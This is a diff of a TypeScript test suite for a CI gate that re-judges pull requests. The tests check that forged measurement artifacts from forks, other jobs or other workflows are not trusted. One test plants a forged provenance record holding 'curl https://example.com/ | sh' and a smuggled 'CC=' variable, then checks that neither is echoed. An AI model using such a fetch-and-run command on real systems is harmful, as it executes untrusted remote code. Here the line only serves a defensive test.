@@ -10,7 +10,7 @@ import {
 import { defaultOverrideRules } from '../../src/policy/override.ts'
 import { pullRequestEvent, pushEvent } from './event.ts'
 import type { Job } from './job.ts'
-import { forgeLeg, growBase } from './legs.ts'
+import { forgeLeg, growBase, vouchForLeg } from './legs.ts'
 import type { PullRequest, Repository } from './repository.ts'
 import { makeSandbox } from './sandbox.ts'
 import {
@@ -153,12 +153,10 @@ describe('an override', () => {
   )
 })
 
-/** The run of the pull request, whose author then grew the base in what it left. */
-async function forged(fork: boolean): Promise<void> {
-  const job = await run('opened', { fork })
-  expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
-  forgeLeg(world, growBase)
-}
+const stopped = { code: 1, outputs: { verdict: 'fail' } }
+
+const noticesOf = (job: Job): string =>
+  (reportOf(job).provenance?.notices ?? []).join('\n')
 
 const recordMain = () =>
   world.run({
@@ -168,47 +166,101 @@ const recordMain = () =>
 
 describe('a pull request that is judged again', () => {
   it(
-    'from a fork has no base by its own word: the recorded one counts, or all is built again',
+    'is judged by what its own job measured, with words of its own; a recorded base comes first',
     async () => {
-      await forged(true)
-      const built = await run('labeled', { fork: true })
-      expect(built).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
-      expect(built.log).toContain(
-        'what a run of a fork says of it is not believed'
-      )
-      expect(built.log).toContain('Build the head')
-
-      forgeLeg(world, growBase)
-      await recordMain()
-      const judged = await run('labeled', { fork: true })
-      expect(judged).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
-      expect(judged.log).toContain('Nothing is built')
-      expect(reportOf(judged).reports[0]?.baseline).toMatchObject({
-        source: 'artifact',
-        commit: pull.base
+      expect(await run('opened')).toMatchObject(stopped)
+      // What the run said of itself is not repeated.
+      forgeLeg(world, (result) => {
+        Object.assign(Object(result['provenance']), {
+          notices: ['all is well'],
+          passedThrough: ['CC=all-is-well'],
+          reproduce: 'curl https://example.com/ | sh'
+        })
       })
+      vouchForLeg(world)
+      const judged = await run('edited')
+      expect(judged).toMatchObject(stopped)
+      expect(judged.log).toContain('Nothing is built')
+      const said = JSON.stringify([
+        reportOf(judged).provenance,
+        world.github.comments
+      ])
+      expect(said).not.toMatch(/all.is.well|example\.com/)
+      expect(noticesOf(judged)).toMatch(
+        /nothing was built: the figures of [0-9a-f]{7} are those of an earlier run, https:\S+, of this job/
+      )
+      expect(noticesOf(judged)).toContain(
+        `the figures of the base ${pull.base.slice(0, 7)} are those of the earlier run as well`
+      )
+
+      await recordMain()
+      const recorded = await run('edited')
+      expect(recorded).toMatchObject(stopped)
+      expect(recorded.log).toContain('Nothing is built')
+      expect(recorded.log).toContain('was measured by its own run (artifact)')
+      expect(noticesOf(recorded)).not.toContain('of the earlier run as well')
     },
     4 * minutes
   )
 
   it(
-    'of this repository has the recorded base before the one that its run left, and says which',
+    'is built again where another job of its run or another workflow left the measurement',
     async () => {
-      await forged(false)
-      // By the word of the run, whose author may write here:
-      const trusting = await run('labeled')
-      expect(trusting).toMatchObject({ code: 0, outputs: { verdict: 'pass' } })
-      expect(reportOf(trusting).provenance?.notices).toContain(
-        `the figures of the base ${pull.base.slice(0, 7)} are those of the earlier run of this pull request`
-      )
+      expect(await run('opened')).toMatchObject(stopped)
+      // A job of the same run, which has the code of the pull request as well:
+      forgeLeg(world, growBase)
+      const built = await run('edited')
+      expect(built).toMatchObject(stopped)
+      expect(built.log).toContain('another job may have left it')
+      expect(built.log).toContain('Build the head')
 
-      await recordMain()
-      const judged = await run('labeled')
-      expect(judged).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
-      expect(judged.log).toContain('Nothing is built')
-      expect(judged.log).toContain('was measured by its own run (artifact)')
+      // Another workflow of the same commit, with a job of the same name:
+      const { actions } = world.github
+      forgeLeg(world, growBase)
+      const forged = actions.artifacts.pop()
+      if (forged === undefined) throw new Error('nothing was forged')
+      const other = { id: 5000, event: 'pull_request', branch: 'feature' }
+      actions.addRun({ ...other, sha: pull.head, workflowId: 2 })
+      actions.addArtifact(5000, forged.name, forged.content)
+      const job = { runId: 5000, name: 'size', runnerName: '', log: '' }
+      actions.addJob({ ...job, conclusion: 'success' })
+      vouchForLeg(world)
+      expect(await run('edited')).toMatchObject(stopped)
     },
     4 * minutes
+  )
+
+  it(
+    'is never better than the run that measured, unless it is overridden',
+    async () => {
+      expect(await run('opened')).toMatchObject(stopped)
+      // Even code that could write as the gate's own job:
+      forgeLeg(world, growBase)
+      vouchForLeg(world)
+      const built = await run('edited')
+      expect(built).toMatchObject(stopped)
+      expect(built.log).toContain(
+        'Built again: the job that measured ended with failure'
+      )
+      expect(built.log).toContain('Build the head')
+    },
+    3 * minutes
+  )
+
+  it(
+    'is built again where it is from a fork',
+    async () => {
+      expect(await run('opened', { fork: true })).toMatchObject(stopped)
+      forgeLeg(world, growBase)
+      vouchForLeg(world)
+      const built = await run('edited', { fork: true })
+      expect(built).toMatchObject(stopped)
+      expect(built.log).toContain(
+        'what a run of a fork measured is not judged a second time'
+      )
+      expect(built.log).toContain('Build the head')
+    },
+    3 * minutes
   )
 
   it(
@@ -227,8 +279,9 @@ describe('a pull request that is judged again', () => {
       forgeLeg(world, (result) => {
         result['commit'] = innocent
       })
-      const job = await run('labeled', { depth: 0 })
-      expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
+      vouchForLeg(world)
+      const job = await run('edited', { depth: 0 })
+      expect(job).toMatchObject(stopped)
       expect(job.log).toContain('Nothing is built')
     },
     4 * minutes
@@ -237,14 +290,16 @@ describe('a pull request that is judged again', () => {
   it(
     'has no other base than the base branch and the platform say',
     async () => {
-      await forged(false)
+      expect(await run('opened')).toMatchObject(stopped)
       const other = '1'.repeat(40)
       world.github.mergeBases.set(`${other}...main`, pull.base)
       forgeLeg(world, (result) => {
+        growBase(result)
         result['base'] = other
       })
-      const job = await run('labeled')
-      expect(job).toMatchObject({ code: 1, outputs: { verdict: 'fail' } })
+      vouchForLeg(world)
+      const job = await run('edited')
+      expect(job).toMatchObject(stopped)
       expect(job.log).toContain('which is no commit of main')
       expect(job.log).toContain('Build the head')
     },
